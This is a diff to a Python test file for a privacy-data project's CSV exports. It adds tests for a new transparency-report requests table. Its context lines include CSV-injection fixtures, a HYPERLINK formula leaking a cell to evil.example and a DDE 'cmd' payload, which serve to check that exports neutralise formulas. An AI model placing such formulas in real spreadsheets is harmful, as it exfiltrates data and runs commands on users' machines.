@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from privacy_terms.data.dataset import load_dataset
-from privacy_terms.website.opendata import _csv, comparison_csv, csv_cell, events_csv
+from privacy_terms.website.opendata import _csv, comparison_csv, csv_cell, events_csv, requests_csv
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 
@@ -97,3 +97,35 @@ def test_a_full_width_formula_in_the_data_reaches_the_csv_guarded(
     comparison, events = rows(comparison_csv(dataset)), rows(events_csv(dataset))
     assert comparison[1][1] == '\'＝HYPERLINK("https://evil.example/")'
     assert "' ＠SUM(1+1)*cmd|/C calc!A0" in [row[5] for row in events]
+
+
+def test_requests_csv_keeps_every_figure_and_says_why_a_gap_has_none(
+    valid_project: Path, today: dt.date
+) -> None:
+    dataset = load_dataset(valid_project, today).dataset
+    assert dataset is not None
+    table = [row[3:10] for row in rows(requests_csv(dataset))]
+    assert table == [
+        ["period", "start", "end", "published", "requests", "accounts",
+         "some_data_produced_percent"],
+        ["H2 2020", "2020-07", "2020-12", "yes", "12", "unknown", "0"],
+        ["Jan 2021 to Jun 2021", "2021-01-01", "2021-06-30", "unknown", "", "", ""],
+        ["H2 2021", "2021-07", "2021-12", "yes", "5", "7", "0"],
+    ]  # fmt: skip
+
+
+def test_requests_csv_says_published_no_only_where_the_data_records_no_reports(
+    valid_project: Path, today: dt.date
+) -> None:
+    alpha = valid_project / "platforms" / "alpha.yaml"
+    none = (
+        "transparency:\n  - form: none\n    frequency: unknown\n    since: 2021-01\n"
+        "    until: 2021-06\n    sources: [alpha-privacy]\n"
+    )
+    alpha.write_text(
+        alpha.read_text(encoding="utf-8").replace("transparency:\n", none), encoding="utf-8"
+    )
+    dataset = load_dataset(valid_project, today).dataset
+    assert dataset is not None
+    gap = [row[3:7] for row in rows(requests_csv(dataset)) if row[6] not in ("yes", "published")]
+    assert gap == [["Jan 2021 to Jun 2021", "2021-01-01", "2021-06-30", "no"]]
